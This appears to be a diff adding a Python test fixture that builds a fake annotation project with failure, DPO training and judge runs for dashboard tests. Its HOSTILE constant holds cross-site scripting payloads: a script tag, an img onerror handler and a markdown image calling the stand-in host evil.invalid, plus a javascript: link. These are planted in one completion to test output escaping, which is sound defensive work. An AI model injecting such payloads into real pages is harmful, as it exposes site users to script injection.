@@ -1,0 +1,136 @@
+"""A project after two rounds, with finished runs of every step, for tests of the dashboard."""
+
+from __future__ import annotations
+
+import json
+import random
+from pathlib import Path
+from typing import Any
+
+from annotate.records import content_id, output_rows, table_from_rows, text_message
+from annotate.runs import Project, Run, RunPlan
+from factories import make_project
+from loop_runs import generated, judged
+
+HOSTILE = (
+    "<script>window.pwned = 1; fetch('http://evil.invalid/script')</script>"
+    "<img src='http://evil.invalid/tag.png' onerror='window.pwned = 2'>\n"
+    "![pixel](http://evil.invalid/markdown.png) [link](javascript:window.pwned=3)\n"
+    ":red[coloured] $\\frac{1}{2}$ <b>bold</b>"
+)
+
+_QUESTIONS = (
+    "My {thing} arrived with a crack in the {part}. What can I do?",
+    "How do I change the address of my order? I bought a {thing} this morning.",
+    "The {part} of my {thing} makes a clicking noise since yesterday.",
+    "Can I return a {thing} without its box?",
+)
+_GOOD = (
+    "I am sorry to hear that. Please send us a photo of the {part} within 14 days and we will "
+    "replace your {thing} at no cost. Your order number is in the confirmation e-mail."
+)
+_BAD = "Have you tried turning the {thing} off? Our {thing}s are the best {thing}s there are."
+_THINGS = ("kettle", "desk lamp", "bicycle pump", "coffee grinder", "radio")
+_PARTS = ("lid", "handle", "base", "cable", "switch")
+
+
+def make_failures(project: Project, n: int = 24, *, round: int = 2, hostile: bool = True) -> Run:
+    """A finished failures run of `n` rows; the first of them holds hostile completions."""
+    rng = random.Random(round)
+    prompts, outputs, failures = [], [], []
+    for number in range(n):
+        words = {"thing": rng.choice(_THINGS), "part": rng.choice(_PARTS)}
+        text = f"{rng.choice(_QUESTIONS).format(**words)} (Order {4100 + number})"
+        prompt_id = content_id("p", round, text)
+        texts = [_BAD.format(**words), _GOOD.format(**words)]
+        if hostile and number == 0:
+            texts = [HOSTILE, f"Another one.\n{HOSTILE}"]
+        pair = output_rows(prompt_id, [(f"m{round - 1}", texts[0]), ("m0", texts[1])])
+        prompts.append(
+            {
+                "prompt_id": prompt_id,
+                "messages": [text_message("user", text)],
+                "source": "held-out",
+                "split": "eval",
+                "metadata": "{}",
+            }
+        )
+        outputs += pair
+        failures.append(_failure(pair, text, number, rng))
+    with project.draft(RunPlan("failures", round, settings={"n": n, "hostile": hostile})) as draft:
+        draft.write("prompts", table_from_rows("prompts", prompts))
+        draft.write("outputs", table_from_rows("outputs", outputs))
+        draft.write("failures", table_from_rows("failures", failures))
+        draft.note(failures=n)
+    return draft.run
+
+
+def _failure(
+    pair: list[dict[str, Any]], text: str, number: int, rng: random.Random
+) -> dict[str, Any]:
+    new, old = pair
+    by_people = number % 3 == 0
+    why = ("lost", "lost", "tied", "thin evidence")[number % 4]
+    return {
+        "failure_id": content_id("f", new["output_id"]),
+        "prompt_id": new["prompt_id"],
+        "output_id": new["output_id"],
+        "model": new["model"],
+        "versus_output": old["output_id"],
+        "versus_model": old["model"],
+        "why": why,
+        "outcome": {"lost": 0.0, "tied": 0.5}.get(why, 1.0),
+        "judged_by": "people" if by_people else "scorer:support-rubric",
+        "votes": 3 if by_people else None,
+        "score": None if by_people else round(rng.uniform(0.1, 0.4), 3),
+        "versus_score": None if by_people else round(rng.uniform(0.5, 0.9), 3),
+        "prompt_text": text,
+        "completion": new["completion"],
+        "versus_completion": old["completion"],
+    }
+
+
+def make_training(project: Project, *, round: int = 1, steps: int = 40) -> Run:
+    """A finished DPO run with its log."""
+    rng = random.Random(round)
+    lines = []
+    for step in range(1, steps + 1):
+        done = step / steps
+        line: dict[str, Any] = {"step": step * 5, "epoch": round_to(done * 3)}
+        line |= {
+            "loss": round_to(0.69 - 0.45 * done + rng.gauss(0, 0.03)),
+            "rewards/margins": round_to(1.8 * done + rng.gauss(0, 0.1)),
+            "rewards/accuracies": round_to(min(1.0, 0.5 + 0.45 * done + rng.gauss(0, 0.04))),
+            "learning_rate": 5e-4 * (1 - done),
+        }
+        lines.append(line)
+    with project.draft(RunPlan("train", round, settings={"recipe": "dpo"}, seed=0)) as draft:
+        draft.write_text("log.jsonl", "".join(json.dumps(line) + "\n" for line in lines))
+        draft.note(method="dpo")
+    return draft.run
+
+
+def round_to(value: float) -> float:
+    """Four decimals, as a log has."""
+    return float(f"{value:.4f}")
+
+
+def make_judged(project: Project, *, round: int = 1, n: int = 40) -> Run:
+    """A finished judge run on the votes of three people, the third of whom guesses."""
+    rng = random.Random(round)
+    texts = {f"Prompt {number} of round {round}": ("good", "bad") for number in range(n)}
+    votes = {
+        text: [rng.choice((3, 2, 1, 1)), rng.choice((3, 2, 1, -1)), rng.randint(-3, 3)]
+        for text in texts
+    }
+    return judged(project, generated(project, texts, round=round), votes, method="dawid-skene")
+
+
+def make_dashboard_project(folder: Path) -> Project:
+    """A project with runs for every page."""
+    project = make_project(folder)
+    for round in (1, 2):
+        make_judged(project, round=round)
+        make_training(project, round=round)
+    make_failures(project)
+    return project
